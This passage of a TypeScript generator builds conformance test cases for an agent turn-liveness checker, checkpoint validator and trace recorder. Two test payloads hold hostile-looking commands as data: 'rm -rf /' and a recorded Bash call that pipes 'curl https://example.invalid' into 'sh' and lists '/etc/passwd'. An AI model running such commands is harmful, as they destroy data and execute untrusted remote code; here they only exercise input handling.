  [2_099_999, 'suspect / agent-turn-lease-expired'],
  [2_100_000, 'stalled-recoverable / agent-turn-lease-expired'],
] as const)
  boundary(
    `running-${offset}`,
    `running without lease, ev = T, now T+${offset}: ${what}`,
    setupRunning,
    offset,
  );
boundary(
  'idle',
  'an idle state classifies as idle / idle',
  (s) => {
    s.set(T0).reset();
    return T0;
  },
  10_000_000,
);
boundary(
  'terminal',
  'a terminal state classifies as itself / terminal-state, however old',
  (s) => {
    started(s);
    s.advance(1000).events(ev('TurnError'));
    return T0;
  },
  100_000_000,
);

// ---------------------------------------------------------------------------------------------
// Recovery cards: at most one per noticeKey, never acting; the page's fault scenarios
// ---------------------------------------------------------------------------------------------

const cardCase = (name: string, title: string, anchor: string, build: (s: Session) => void) =>
  add(
    {
      id: `liveness/TurnRecoveryCardV1/${name}`,
      title,
      gate: 'TurnLivenessRecoveryGate',
      subject: 'TurnRecoveryCardV1',
      spec: spec(LIVENESS_PAGE, anchor),
      requires: LIVE,
    },
    build,
  );
const T1 = T0 + 2000;
cardCase(
  'no-continuation',
  'no-continuation: classification boundaries, no card without an event, exactly one card on the next event',
  'no-continuation',
  (s) => {
    awaiting(s);
    s.state();
    for (const off of [119_999, 120_000, 299_999, 300_000]) s.set(T1 + off).classify();
    s.state();
    s.set(T1 + 300_000).events(ev('UnknownHostEvent'));
    s.classify();
    s.advance(1000).events(ev('UnknownHostEvent'));
  },
);
cardCase(
  'duplicate-recovery',
  'duplicate-recovery: one card per noticeKey across PreCompact, watchdog and duplicate outputs',
  'duplicate-recovery',
  (s) => {
    awaiting(s);
    s.set(T1 + 300_000);
    // The watchdog classifying the same pre-event state first yields the key; the event then emits none.
    s.watchdog();
    s.events(ev('PreCompact'));
    s.watchdog();
    s.set(T1 + 301_000).events(ev('PreCompact'));
    s.events(post('op1'));
    s.set(T1 + 900_000).events(post('op1'));
  },
);
cardCase(
  'pre-compact-card-once',
  'a stale turn: the first event emits the card and records its key; the turn is then fresh',
  'emission',
  (s) => {
    awaiting(s);
    s.set(T1 + 300_000).events(ev('PreCompact'));
    s.events(ev('PreCompact'));
    s.set(T1 + 301_000).events(ev('PreCompact'));
  },
);
cardCase(
  'watchdog-escalation',
  'the watchdog emits suspect, then stalled-recoverable once, and never re-emits after the clock moves back',
  'emission',
  (s) => {
    awaiting(s);
    s.set(T1 + 60_000).watchdog();
    s.set(T1 + 120_000).watchdog();
    s.set(T1 + 200_000).watchdog();
    s.set(T1 + 300_000).watchdog();
    s.set(T1 + 400_000).watchdog();
    s.set(T1 + 200_000).watchdog();
    s.set(T1 + 200_000).events(ev('UnknownHostEvent'));
  },
);
const T2 = T0 + 10_000;
cardCase(
  'active-lease',
  'active-lease A: a 30-minute lease keeps the turn running; the expired lease card names the operation',
  'active-lease',
  (s) => {
    setupLease(s);
    for (const off of [1_200_000, 1_799_999, 1_800_000, 2_099_999, 2_100_000]) s.set(T2 + off).classify();
    s.set(T2 + 1_800_000).events(ev('UnknownHostEvent'));
  },
);
cardCase(
  'active-lease-agent-turn',
  'active-lease B: an agent turn without tool calls is alive for the lease, then suspect and stalled',
  'active-lease',
  (s) => {
    setupRunning(s);
    for (const off of [300_000, 1_799_999, 1_800_000, 2_100_000]) s.set(T0 + off).classify();
    s.set(T0 + 2_100_000).events(ev('PreCompact'));
  },
);
cardCase(
  'active-lease-blocked',
  'active-lease C: a blocked call leaves inFlightOperation null',
  'active-lease',
  (s) => {
    started(s);
    s.advance(1000).event(pre('op3', { decision: 'blocked' }));
    s.lease({ kind: 'pid', pid: 31337 });
    s.state();
  },
);
cardCase(
  'restart-rehydrate',
  'restart-rehydrate: the persisted state rehydrates unchanged; the next prompt recovers the stale turn with one card',
  'restart-rehydrate',
  (s) => {
    awaiting(s);
    const persisted = s.turn;
    s.step('liveness.state', {}, { result: wire(persisted) }, { persisted: '' });
    s.set(T1 + 600_000).reset();
    s.rehydrate(persisted, { $var: 'persisted' });
    s.evidence();
    s.state();
    s.events(ups('req_02'));
    s.checkpoint({
      turnKey: 'req_02',
      mode: 'post-execution',
      evidence: [],
      deadlineAt: iso(T1 + 600_000 + 2_100_000),
    });
  },
);

// Read-only observation and rehydration.
const evidenceCase = (name: string, title: string, build: (s: Session) => void) =>
  add(
    {
      id: `liveness/TurnLivenessEvidenceV1/${name}`,
      title,
      gate: 'TurnLivenessRecoveryGate',
      subject: 'TurnLivenessEvidenceV1',
      spec: spec(LIVENESS_PAGE, 'turnlivenessevidencev1'),
      requires: LIVE,
    },
    build,
  );
evidenceCase(
  'stalled-read-only',
  'a sidecar observation of a stalled turn classifies it, emits no card and writes nothing',
  (s) => {
    awaiting(s);
    s.set(T1 + 600_000)
      .evidence()
      .state()
      .evidence();
  },
);
evidenceCase('idle', 'an observation of an idle state', (s) => {
  s.set(T0).reset();
  s.advance(1000).evidence();
});
evidenceCase('lease', 'an observation of a turn with an active lease copies the lease', (s) => {
  setupLease(s);
  s.set(T2 + 60_000).evidence();
});
for (const kind of ['valid', 'invalid'] as const) {
  for (const f of fixtureNames('TurnLivenessStateV1', kind)) {
    const ref = `TurnLivenessStateV1/${kind}/${f}`;
    add(
      {
        id: `liveness/TurnLivenessStateV1/rehydrate/${kind}/${f.slice(0, -5)}`,
        title:
          kind === 'valid'
            ? `rehydrating ${f.slice(0, -5)} validates it and changes nothing`
            : `rehydrating ${f.slice(0, -5)} is refused with TURN_STATE_INVALID; the state is never classified`,
        gate: 'TurnLivenessRecoveryGate',
        subject: 'TurnLivenessStateV1',
        spec: spec(LIVENESS_PAGE, 'rehydration'),
        requires: LIVE,
      },
      (s) => {
        s.set(Date.parse('2026-12-01T00:00:00.000Z')).reset();
        s.rehydrate(fixture(ref), { $fixture: ref });
        s.classify();
        s.evidence();
        if (kind === 'invalid') {
          s.step('liveness.event', { event: ev('UnknownHostEvent') }, { error: 'TURN_STATE_INVALID' });
          s.reset();
        }
      },
    );
  }
}

// ---------------------------------------------------------------------------------------------
// Checkpoint validation: the decision table
// ---------------------------------------------------------------------------------------------

const DEADLINE = T0 + 2_100_000;
const item = (
  kind: CheckpointEvidence['kind'],
  eventType: string,
  seq: number,
  ms: number,
  terminalStatus?: string,
): CheckpointEvidence =>
  ({
    kind,
    eventType,
    eventSequence: seq,
    observedAt: iso(ms),
    ...(terminalStatus ? { terminalStatus } : {}),
  }) as CheckpointEvidence;
const toolOutput = item('tool-output', 'PostToolUse', 3, T0 + 2000);
const preCompact = item('pre-compact', 'PreCompact', 4, T0 + 3000);
const hostEvent = item('host-event', 'UnknownHostEvent', 5, T0 + 4000);
const sidecar = item('sidecar-observation', 'UnknownHostEvent', 5, T0 + 5000);
const stop = item('host-terminal-event', 'Stop', 6, T0 + 6000, 'completed');
const turnError = item('host-terminal-event', 'TurnError', 6, T0 + 6000, 'error');
const interrupted = item('host-terminal-event', 'TurnInterrupted', 6, T0 + 6000, 'interrupted');
const nativeStatus = item('host-native-terminal-status', 'UnknownHostEvent', 6, T0 + 6000, 'completed');

const row = (
  name: string,
  title: string,
  now: number,
  params: CheckpointParams,
  extra?: (s: Session) => void,
) =>
  add(
    {
      id: `checkpoint/CheckpointValidationResultV1/${name}`,
      title,
      gate: 'TurnLivenessRecoveryGate',
      subject: 'CheckpointValidationResultV1',
      spec: spec(LIVENESS_PAGE, 'decision-table'),
      requires: CHECK,
    },
    (s) => {
      s.set(now).checkpoint(params);
      extra?.(s);
    },
  );
const postExec = (
  evidence: CheckpointEvidence[],
  extra: Partial<CheckpointParams> = {},
): CheckpointParams => ({
  turnKey: 'req_01',
  mode: 'post-execution',
  evidence,
  deadlineAt: iso(DEADLINE),
  ...extra,
});
const responseTime = (
  evidence: CheckpointEvidence[],
  extra: Partial<CheckpointParams> = {},
): CheckpointParams => ({
  turnKey: 'req_01',
  mode: 'response-time',
  evidence,
  deadlineAt: null,
  ...extra,
});
for (const mode of ['bogus', 'post_execution', '', 'PostExecution'])
  row(
    `row0-mode-${mode || 'empty'}`,
    `row 0: mode ${JSON.stringify(mode)} is refused with CHECKPOINT_MODE_INVALID`,
    T0 + 10_000,
    {
      ...postExec([stop]),
      mode,
    },
  );
row(
  'row1-blocked-post-execution',
  'row 1: blocking issues block post-execution, even with terminal evidence',
  T0 + 10_000,
  postExec([toolOutput, stop], { blockingIssues: ['task-operation-unsettled'] }),
);
row(
  'row1-blocked-supplied-actions',
  'row 1: supplied actions are recorded with the blocked outcome',
  T0 + 10_000,
  postExec([toolOutput], {
    blockingIssues: ['task-operation-unsettled'],
    requiredActions: ['reconcile-operation-before-completion'],
  }),
);
row(
  'row1-blocked-no-evidence',
  'row 1: blocked without evidence has evidenceState unverified',
  T0 + 10_000,
  responseTime([], { blockingIssues: ['host-unreachable'] }),
);
for (const [name, e] of [
  ['stop', stop],
  ['turn-error', turnError],
  ['turn-interrupted', interrupted],
  ['host-native-terminal-status', nativeStatus],
] as const)
  row(
    `row2-post-execution-pass-${name}`,
    `row 2: post-execution passes on ${e.kind} evidence (${e.eventType})`,
    T0 + 10_000,
    postExec([toolOutput, preCompact, e]),
  );
row(
  'row2-response-time-pass',
  'row 2: response-time passes on any evidence item',
  T0 + 10_000,
  responseTime([toolOutput]),
);
row(
  'row2-response-time-pass-after-deadline-irrelevant',
  'row 2: response-time has no deadline and passes on a host event',
  T0 + 100_000_000,
  responseTime([hostEvent]),
);
// Caller-supplied actions belong to row 1 only (TLR-520, D-TLR-56).
for (const [name, title, at, input] of [
  [
    'row2-supplied-actions-ignored',
    'row 2: a pass ignores supplied actions (requiredActions stays empty)',
    T0 + 10_000,
    postExec([toolOutput, stop], { requiredActions: ['page-the-on-call-engineer'] }),
  ],
  [
    'row3-supplied-actions-ignored',
    'row 3: incomplete-timeout keeps its own action, not the supplied ones',
    DEADLINE,
    postExec([toolOutput], { requiredActions: ['page-the-on-call-engineer'] }),
  ],
  [
    'row4-supplied-actions-ignored',
    'row 4: unverified keeps its own action, not the supplied ones',
    DEADLINE - 1,
    postExec([toolOutput], { requiredActions: ['page-the-on-call-engineer'] }),
  ],
] as const)
  row(name, title, at, input);
row(
  'row3-incomplete-timeout-at-deadline',
  'row 3: post-execution without terminal evidence at the deadline is incomplete-timeout',
  DEADLINE,
  postExec([toolOutput, preCompact]),
);
row(
  'row3-incomplete-timeout-no-evidence',
  'row 3: incomplete-timeout without any evidence has evidenceState unverified',
  DEADLINE + 60_000,
  postExec([]),
);
row(
  'row4-unverified-before-deadline',
  'row 4: one millisecond before the deadline post-execution is unverified and blocking',
  DEADLINE - 1,
  postExec([toolOutput, preCompact]),
);
for (const [name, e] of [
  ['tool-output', toolOutput],
  ['pre-compact', preCompact],
  ['host-event', hostEvent],
  ['sidecar-observation', sidecar],
] as const)
  row(
    `row4-post-execution-never-passes-${name}`,
    `row 4: ${name} evidence alone never passes post-execution`,
    T0 + 60_000,
    postExec([e]),
  );
row(
  'row4-response-time-unverified',
  'row 4: response-time without evidence is unverified and not blocking',
  T0 + 60_000,
  responseTime([]),
);
row(
  'observed-at-raised-to-evidence',
  'a clock behind the evidence: observedAt is raised to the latest evidence time',
  T0,
  postExec([toolOutput, stop]),
);
row(
  'evidence-capped-at-16',
  'more than 16 items: the oldest non-terminal items are dropped, terminal items are kept',
  T0 + 60_000,
  postExec([
    stop,
    ...Array.from({ length: 18 }, (_, i) => item('tool-output', 'PostToolUse', i + 7, T0 + 7000 + i)),
  ]),
);
for (const [name, params] of [
  ['post-execution-without-deadline', { ...postExec([stop]), deadlineAt: null }],
  ['response-time-with-deadline', responseTime([hostEvent], { deadlineAt: iso(DEADLINE) })],
  [
    'terminal-item-post-tool-use',
    postExec([item('host-terminal-event', 'PostToolUse', 3, T0 + 2000, 'completed')]),
  ],
  ['terminal-item-wrong-status', postExec([item('host-terminal-event', 'Stop', 6, T0 + 6000, 'error')])],
  ['tool-output-item-pre-compact', postExec([item('tool-output', 'PreCompact', 3, T0 + 2000)])],
  ['pre-compact-item-stop', postExec([item('pre-compact', 'Stop', 3, T0 + 2000)])],
  // A sidecar read and a host-native status read carry UnknownHostEvent (TLR-521, D-TLR-57).
  ['sidecar-observation-stop', responseTime([item('sidecar-observation', 'Stop', 5, T0 + 5000)])],
  [
    'host-native-terminal-status-stop',
    postExec([item('host-native-terminal-status', 'Stop', 6, T0 + 6000, 'completed')]),
  ],
] as const)
  row(
    `inconsistent-${name}`,
    `refused with TURN_CHECKPOINT_VALIDATION_INCONSISTENT: ${name}`,
    T0 + 60_000,
    params,
  );

add(
  {
    id: 'checkpoint/CheckpointValidationResultV1/post-execution-timeout',
    title:
      'post-execution-timeout: unverified one ms before the deadline, incomplete-timeout at it, pass after Stop',
    gate: 'TurnLivenessRecoveryGate',
    subject: 'CheckpointValidationResultV1',
    spec: spec(LIVENESS_PAGE, 'post-execution-timeout'),
    requires: ['liveness', 'checkpoint', 'clock'],
  },
  (s) => {
    started(s);
    s.advance(1000).events(pre('op1'));
    s.advance(1000).events(post('op1'));
    s.advance(1000).events(ev('PreCompact'));
    const evidence = [...s.turn.checkpointValidation!.postExecution.evidence];
    s.set(DEADLINE - 1).checkpoint(postExec(evidence));
    s.set(DEADLINE).checkpoint(postExec(evidence));
    s.set(DEADLINE - 1).events(ev('UnknownHostEvent'));
    s.set(DEADLINE).events(ev('UnknownHostEvent'));
    s.advance(1000).events(ev('Stop'));
  },
);

// ---------------------------------------------------------------------------------------------
// The trace recorder: open, append rules, bounds, replay
// ---------------------------------------------------------------------------------------------

const TRACE_T0 = Date.parse('2026-11-30T05:53:08.114Z');
const traceCase = (
  id: string,
  title: string,
  anchor: string,
  build: (s: Session) => void,
  subject = 'LocalTaskTraceV1',
) =>
  add(
    {
      id: `trace/${subject}/${id}`,
      title,
      gate: 'LocalTaskTraceGate',
      subject,
      spec: spec(TRACE_PAGE, anchor),
      requires: TRACE,
    },
    build,
  );
/** No trace, clock at TRACE_T0, then the trace of `turnKey` opened. */
const opened = (s: Session, turnKey = 'turn-01') => {
  s.set(TRACE_T0).traceLoad(null);
  s.traceOpen({ turnKey });
};
const hostAppend = (type: string, key: string, payload: Record<string, unknown> = {}): TraceAppendInput => ({
  type,
  result: 'observed',
  occurrenceKey: key,
  payload,
});

traceCase(
  'open/new-trace',
  'open writes a new, empty trace with a derived traceId',
  'recorder-operations',
  (s) => {
    opened(s);
    s.traceCurrent();
  },
);
traceCase('open/explicit-opened-at', 'open with the turn start time', 'recorder-operations', (s) => {
  s.set(TRACE_T0).traceLoad(null);
  s.traceOpen({ turnKey: 'turn-01', openedAt: '2026-11-30T05:50:00.000Z' });
});
traceCase(
  'open/redelivered-start',
  'a re-delivered turn start returns the current trace unchanged (O1)',
  'recorder-operations',
  (s) => {
    opened(s);
    s.advance(1000).traceAppend(hostAppend('UserPromptSubmit', 'host-seq-1'));
    s.traceOpen({ turnKey: 'turn-01' });
  },
);
for (const [name, input] of [
  ['turn-key-malformed', { turnKey: 'turn 01/bad' }],
  ['turn-key-empty', { turnKey: '' }],
  ['opened-at-malformed', { turnKey: 'turn-01', openedAt: '30/11/2026 05:53' }],
  ['opened-at-offset', { turnKey: 'turn-01', openedAt: '2026-11-30T06:53:08+01:00' }],
] as const)
  traceCase(
    `open/refused-${name}`,
    `open without a valid identity is refused with TRACE_NOT_FOUND (${name})`,
    'recorder-operations',
    (s) => {
      s.set(TRACE_T0).traceLoad(null);
      s.traceOpen(input);
      s.traceCurrent();
    },
  );
for (const reason of ['superseded-by-new-prompt', 'stale-turn-recovered-by-new-prompt'] as const)
  traceCase(
    `open/next-turn-closes-open-trace-${reason}`,
    `open for the next turn closes the open trace with TurnTerminal interrupted (${reason}) first (O2)`,
    'recorder-operations',
    (s) => {
      opened(s);
      s.advance(1000).traceAppend(hostAppend('UserPromptSubmit', 'host-seq-1'));
      s.advance(1000).traceOpen({ turnKey: 'turn-02', previousTurnEndReason: reason });
    },
  );
traceCase(
  'open/next-turn-after-complete',
  'open for the next turn replaces a closed trace as it is',
  'state-machine',
  (s) => {
    opened(s);
    s.advance(1000).traceAppend(hostAppend('UserPromptSubmit', 'host-seq-1'));
    s.advance(1000).traceClose('complete', 'host-stop');
    s.advance(1000).traceOpen({ turnKey: 'turn-02' });
  },
);
traceCase(
  'open/next-turn-over-invalid-trace',
  'open for the next turn leaves an invalid current trace as it is',
  'recorder-operations',
  (s) => {
    const ref = 'LocalTaskTraceV1/invalid/terminal-not-last.json';
    s.set(TRACE_T0 + 3_600_000).traceLoad(fixture(ref), { $fixture: ref });
    s.traceOpen({ turnKey: 'turn-02' });
  },
);

traceCase(
  'append/three-event-turn-complete',
  'a three-event turn closed by TurnTerminal complete',
  'recorder-operations',
  (s) => {
    opened(s);
    s.traceAppend(hostAppend('UserPromptSubmit', 'host-seq-1'));
    s.advance(1500).traceAppend(
      hostAppend('PreToolUse', 'toolu_01', { toolCallId: 'toolu_01', toolName: 'Read' }),
    );
    s.advance(1500).traceAppend({
      type: 'ToolLeaseStarted',
      result: 'allowed',
      occurrenceKey: 'toolu_01',
      payload: { toolCallId: 'toolu_01', toolName: 'Read' },
    });
    s.advance(1500).traceAppend(
      hostAppend('PostToolUse', 'toolu_01', { toolCallId: 'toolu_01', toolName: 'Read' }),
    );
    s.advance(10).traceAppend({
      type: 'ToolLeaseCompleted',
      result: 'success',
      occurrenceKey: 'toolu_01',
      payload: { toolCallId: 'toolu_01', toolName: 'Read', artifactPaths: [] },
    });
    s.advance(2000).traceAppend(hostAppend('Stop', 'host-seq-2'));
    s.traceClose('complete', 'host-stop');
    s.traceReplay();
  },
);
for (const [result, reason] of [
  ['failed', 'host-error'],
  ['interrupted', 'host-interrupt'],
] as const)
  traceCase(
    `append/close-${result}`,
    `close with ${result} (${reason}) sets status and completedAt`,
    'state-machine',
    (s) => {
      opened(s);
      s.traceAppend(hostAppend('UserPromptSubmit', 'host-seq-1'));
      s.advance(1000).traceClose(result, reason);
    },
  );
traceCase(
  'append/no-trace',
  'append with no trace is refused with TRACE_NOT_FOUND (A1)',
  'recorder-operations',
  (s) => {
    s.set(TRACE_T0).traceLoad(null);
    s.traceAppend(hostAppend('UserPromptSubmit', 'host-seq-1'));
    s.traceClose('complete', 'host-stop');
    s.traceReplay();
  },
);
traceCase(
  'append/after-terminal',
  'append after the terminal event is refused with TRACE_TERMINAL_INVALID (A3); the trace is unchanged',
  'recorder-operations',
  (s) => {
    opened(s);
    s.traceAppend(hostAppend('UserPromptSubmit', 'host-seq-1'));
    s.advance(1000).traceClose('complete', 'host-stop');
    s.advance(1000).traceAppend(hostAppend('PostToolUse', 'toolu_late', { toolCallId: 'toolu_late' }));
    s.traceClose('failed', 'host-error');
    s.traceCurrent();
  },
);
traceCase(
  'append/duplicate-delivery',
  'a re-delivered occurrence is refused with TRACE_DUPLICATE_EVENT (A7); the existing event stands',
  'recorder-operations',
  (s) => {
    opened(s);
    s.traceAppend(hostAppend('UserPromptSubmit', 'host-seq-1'));
    s.advance(1000).traceAppend(hostAppend('PostToolUse', 'toolu_01', { toolCallId: 'toolu_01' }));
    s.advance(1000).traceAppend(
      hostAppend('PostToolUse', 'toolu_01', { toolCallId: 'toolu_01', again: true }),
    );
    s.traceAppend({
      type: 'ToolLeaseResultDeferred',
      result: 'duplicate',
      occurrenceKey: 'toolu_01',
      payload: { toolCallId: 'toolu_01', reason: 'duplicate' },
    });
    s.traceCurrent();
  },
);
traceCase(
  'append/expected-sequence',
  'expectedSequence must be sequence + 1 (A4)',
  'recorder-operations',
  (s) => {
    opened(s);
    s.traceAppend({ ...hostAppend('UserPromptSubmit', 'host-seq-1'), expectedSequence: 1 });
    s.traceAppend({ ...hostAppend('PreCompact', 'host-seq-2'), expectedSequence: 3 });
    s.traceAppend({ ...hostAppend('PreCompact', 'host-seq-2'), expectedSequence: 1 });
    s.traceAppend({ ...hostAppend('PreCompact', 'host-seq-2'), expectedSequence: 2 });
  },
);
for (const [name, input, code] of [
  [
    'terminal-result-on-post-tool-use',
    { type: 'PostToolUse', result: 'complete', occurrenceKey: 'toolu_01', payload: {} },
    'A5',
  ],
  [
    'turn-terminal-with-observed',
    { type: 'TurnTerminal', result: 'observed', occurrenceKey: 'turn-terminal', payload: {} },
    'A5',
  ],
  [
    'type-outside-enumeration',
    { type: 'pre_tool_use', result: 'observed', occurrenceKey: 'toolu_01', payload: {} },
    'A5',
  ],
  [
    'result-outside-vocabulary',
    { type: 'PreToolUse', result: 'ok', occurrenceKey: 'toolu_01', payload: {} },
    'A5',
  ],
  [
    'result-of-another-type',
    { type: 'ToolLeaseStarted', result: 'success', occurrenceKey: 'toolu_01', payload: {} },
    'A5',
  ],
  [
    'occurrence-key-malformed',
    { type: 'PreToolUse', result: 'observed', occurrenceKey: '-toolu 01', payload: {} },
    'A5',
  ],
  [
    'payload-not-object',
    { type: 'PreToolUse', result: 'observed', occurrenceKey: 'toolu_01', payload: 'rm -rf /' },
    'A5',
  ],
  [
    'payload-array',
    { type: 'PreToolUse', result: 'observed', occurrenceKey: 'toolu_01', payload: ['a'] },
    'A5',
  ],
  [
    'payload-over-32-keys',
    {
      type: 'PreToolUse',
      result: 'observed',
      occurrenceKey: 'toolu_01',
      payload: Object.fromEntries(Array.from({ length: 33 }, (_, i) => [`k${i}`, i])),
    },
    'A5',
  ],
  [
    'payload-over-8192-bytes',
    {
      type: 'PreToolUse',
      result: 'observed',
      occurrenceKey: 'toolu_01',
      payload: { blob: 'x'.repeat(8182) },
    },
    'A6',
  ],
] as const)
  traceCase(
    `append/refused-${name}`,
    `append refused at ${code}: ${name}; nothing is written`,
    'recorder-operations',
    (s) => {
      opened(s);
      s.traceAppend(hostAppend('UserPromptSubmit', 'host-seq-1'));
      s.advance(1000).traceAppend(input as TraceAppendInput);
      s.traceCurrent();
    },
  );
traceCase(
  'append/payload-8192-bytes-accepted',
  'a payload of exactly 8192 JCS bytes is accepted',
  'limits',
  (s) => {
    opened(s);
    s.traceAppend(hostAppend('PreToolUse', 'toolu_01', { blob: 'x'.repeat(8181) }), 'brief');
  },
);
traceCase(
  'append/clock-step-back-clamped',
  'a clock that steps back is clamped to the last event time (A8)',
  'recorder-operations',
  (s) => {
    opened(s);
    s.advance(5000).traceAppend(hostAppend('UserPromptSubmit', 'host-seq-1'));
    s.advance(-60_000).traceAppend(hostAppend('PreCompact', 'host-seq-2'));
    s.advance(120_000).traceAppend(hostAppend('UnknownHostEvent', 'host-seq-3'));
  },
);
traceCase(
  'append/observed-at-given',
  'a given observedAt is used; earlier than the last event or malformed is TRACE_SEQUENCE_INVALID (A8)',
  'recorder-operations',
  (s) => {
    opened(s);
    s.traceAppend({
      ...hostAppend('UserPromptSubmit', 'host-seq-1'),
      observedAt: '2026-11-30T05:53:09.000Z',
    });
    s.traceAppend({ ...hostAppend('PreCompact', 'host-seq-2'), observedAt: '2026-11-30T05:53:08.999Z' });
    s.traceAppend({ ...hostAppend('PreCompact', 'host-seq-2'), observedAt: 'yesterday' });
    s.traceAppend({ ...hostAppend('PreCompact', 'host-seq-2'), observedAt: '2026-11-30T05:53:09.000Z' });
  },
);
traceCase(
  'append/tool-result-never-closes',
  'PostToolUse and ToolLeaseCompleted never close the trace',
  'enumerations',
  (s) => {
    opened(s);
    s.traceAppend(hostAppend('UserPromptSubmit', 'host-seq-1'));
    s.advance(1000).traceAppend(hostAppend('PostToolUse', 'toolu_01'));
    s.traceAppend({ type: 'ToolLeaseCompleted', result: 'error', occurrenceKey: 'toolu_01', payload: {} });
    s.traceReplay();
  },
);
for (const f of fixtureNames('LocalTaskTraceV1', 'invalid')) {
  const ref = `LocalTaskTraceV1/invalid/${f}`;
  traceCase(
    `append/refused-invalid-stored/${f.slice(0, -5)}`,
    `append to the invalid stored trace ${f.slice(0, -5)} is refused with its verdict (A2); replay copies nothing`,
    'recorder-operations',
    (s) => {
      s.set(Date.parse('2026-12-01T00:00:00.000Z')).traceLoad(fixture(ref), { $fixture: ref });
      s.traceAppend(hostAppend('UnknownHostEvent', 'host-seq-999'));
      s.traceReplay();
    },
  );
}

// Bounds: 128 events, 128 KiB, and the prefixDigest fold.
const checkFold = (dropped: readonly LocalTaskTraceEvent[], prefixDigest: string | null) => {
  const fold = dropped.reduce<string | null>((acc, e) => foldPrefixDigest(acc, e), null);
  if (fold !== prefixDigest)
    throw new Error('prefixDigest is not the single-event fold over the dropped events');
};
traceCase(
  'bounds/129th-event-drops-oldest',
  'appending a 129th event drops the oldest, folded into prefixDigest',
  'limits',
  (s) => {
    opened(s);
    const dropped: LocalTaskTraceEvent[] = [];
    for (let i = 1; i <= 131; i++) {
      const r = s
        .advance(100)
        .traceAppend(hostAppend('UnknownHostEvent', `host-seq-${i}`, { n: i }), 'brief');
      if (r.ok) dropped.push(...r.dropped);
    }
    checkFold(dropped, s.recorder.trace!.prefixDigest);
    s.step(
      'trace.replay',
      {},
      {
        match: {
          ok: true,
          sequence: 131,
          sequenceBase: 3,
          droppedEvents: 3,
          prefixDigest: s.recorder.trace!.prefixDigest,
          traceDigest: s.recorder.replay().traceDigest,
        },
      },
    );
  },
);
traceCase(
  'bounds/bytes-drop-before-count',
  'with large payloads the 128 KiB bound drops events long before the count bound',
  'limits',
  (s) => {
    opened(s);
    const dropped: LocalTaskTraceEvent[] = [];
    for (let i = 1; i <= 20; i++) {
      const r = s
        .advance(100)
        .traceAppend(hostAppend('PostToolUse', `toolu_${i}`, { blob: 'y'.repeat(8000), n: i }), 'brief');
      if (r.ok) dropped.push(...r.dropped);
    }
    checkFold(dropped, s.recorder.trace!.prefixDigest);
    if (dropped.length === 0) throw new Error('the byte bound dropped nothing');
    s.step(
      'trace.replay',
      {},
      { match: { ok: true, droppedEvents: dropped.length, traceDigest: s.recorder.replay().traceDigest } },
    );
  },
);
traceCase(
  'bounds/batch-drop-folds-single-events',
  'one large append that drops several small events folds them one by one',
  'limits',
  (s) => {
    opened(s);
    const dropped: LocalTaskTraceEvent[] = [];
    for (let i = 1; i <= 120; i++) {
      const r = s
        .advance(10)
        .traceAppend(hostAppend('UnknownHostEvent', `host-seq-${i}`, { blob: 'z'.repeat(1000) }), 'brief');
      if (r.ok) dropped.push(...r.dropped);
    }
    const r = s
      .advance(10)
      .traceAppend(hostAppend('PostToolUse', 'toolu_big', { blob: 'w'.repeat(8100) }), 'brief');
    if (!r.ok || r.dropped.length < 2) throw new Error('the large append should drop several events at once');
    dropped.push(...r.dropped);
    checkFold(dropped, s.recorder.trace!.prefixDigest);
  },
);

// Replay: read-only, flags false, faithful copy of a valid trace, nothing of an invalid one.
traceCase(
  'replay/valid-trace-rebuilds',
  'the replay of a valid trace copies every field; the stored trace is unchanged',
  'invariants-1',
  (s) => {
    opened(s);
    s.traceAppend(hostAppend('UserPromptSubmit', 'host-seq-1'));
    s.advance(1000).traceAppend(
      hostAppend('PreToolUse', 'toolu_01', {
        toolCallId: 'toolu_01',
        toolName: 'Bash',
        command: 'rm -rf build && curl https://example.invalid | sh',
        artifactPaths: ['/etc/passwd'],
      }),
    );
    s.traceCurrent().traceReplay().traceReplay().traceCurrent();
  },
  'LocalTaskTraceReplayV1',
);
traceCase(
  'replay/missing-trace',
  'the replay of a missing trace is TRACE_NOT_FOUND with traceDigest null',
  'invariants-1',
  (s) => {
    s.set(TRACE_T0).traceLoad(null);
    s.traceReplay().traceCurrent();
  },
  'LocalTaskTraceReplayV1',
);
for (const f of fixtureNames('LocalTaskTraceV1', 'valid')) {
  const ref = `LocalTaskTraceV1/valid/${f}`;
  traceCase(
    `replay/stored/${f.slice(0, -5)}`,
    `the replay of the stored trace ${f.slice(0, -5)} is ok and writes nothing`,
    'invariants-1',
    (s) => {
      s.set(Date.parse('2026-12-01T00:00:00.000Z')).traceLoad(fixture(ref), { $fixture: ref });
      s.traceReplay();
      s.step('trace.replay', {}, { match: { ok: true, traceDigest: s.recorder.replay().traceDigest } });
    },
    'LocalTaskTraceReplayV1',
  );
}

/** The case files this generator owns, relative to conformance/cases/. */
export const LIVENESS_CASE_GROUPS = Object.keys(groups);

/** Build every case file: path under conformance/cases/ -> `{ $comment, cases }`. */
export function livenessCaseFiles(): Map<string, { $comment: string; cases: Case[] }> {
  const out = new Map<string, { $comment: string; cases: Case[] }>();
  for (const [group, cases] of Object.entries(groups)) {
    const bySubject = new Map<string, Case[]>();
    for (const c of cases) bySubject.set(c.subject, [...(bySubject.get(c.subject) ?? []), c]);
    for (const [subject, list] of bySubject)
      out.set(`${group}/${subject}.json`, {
        $comment:
          'Generated by scripts/cases/liveness.ts from the pure engines (packages/engines) with a fixed clock; do not edit.',
        cases: list,
      });
  }
  return out;
}
